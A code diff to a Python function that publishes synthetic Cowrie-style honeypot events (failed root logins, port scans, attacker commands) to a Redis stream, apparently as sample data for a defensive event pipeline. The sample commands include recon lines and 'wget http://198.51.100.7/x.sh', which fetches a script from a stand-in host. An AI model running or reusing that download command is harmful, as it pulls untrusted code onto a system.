@@ -199,12 +199,15 @@ SAMPLE_STREAM = "sting:events:honeypot"
 
 
 def publish_sample_events(n: int = 200, redis_url: str | None = None) -> int:
-    """Honeypot events on a Redis stream (one malformed). Returns the stream length."""
+    """Honeypot events on a Redis stream (one malformed), in the Cowrie style the event pipeline
+    reads (the stream comb delivers them as Parquet; event_ingestion takes its outputs). Returns
+    the stream length."""
     import json
 
     import redis
 
     r = redis.Redis.from_url(redis_url or get_settings().redis_url)
+    sources = ["61.177.172.13", "218.92.0.107", "141.98.11.11", "89.248.165.52", "45.33.32.156"]
     try:
         pipe = r.pipeline()
         base = datetime.now(UTC).replace(microsecond=0)
@@ -212,10 +215,16 @@ def publish_sample_events(n: int = 200, redis_url: str | None = None) -> int:
             if i == n // 2:
                 pipe.xadd(SAMPLE_STREAM, {"data": "{not json"})
                 continue
-            pipe.xadd(SAMPLE_STREAM, {"data": json.dumps({
-                "event_type": ["login_attempt", "command", "download"][i % 3], "honey_jar": f"ssh-{i % 3:02d}",
-                "source_ip": f"192.0.2.{i % 250}", "username": "root", "password": f"p@ss{i}",
-                "user_agent": "SSH-2.0-Go", "at": (base - timedelta(seconds=n - i)).isoformat()})})
+            kind = ["cowrie.login.failed", "cowrie.command.input", "scan.port"][i % 3]
+            ev = {"eventid": kind, "sensor": f"ssh-{i % 3:02d}", "src_ip": sources[i % len(sources)],
+                  "dst_port": 22, "timestamp": (base - timedelta(seconds=n - i)).isoformat(), "session": f"c{i // 10}"}
+            if kind == "cowrie.login.failed":
+                ev.update(username="root", password=f"p@ss{i}")
+            elif kind == "cowrie.command.input":
+                ev["input"] = ["uname -a", "cat /proc/cpuinfo", "wget http://198.51.100.7/x.sh"][i % 3]
+            else:
+                ev["dst_port"] = [22, 23, 80, 443, 2323][i % 5]
+            pipe.xadd(SAMPLE_STREAM, {"data": json.dumps(ev)})
         pipe.execute()
         return r.xlen(SAMPLE_STREAM)
     finally:
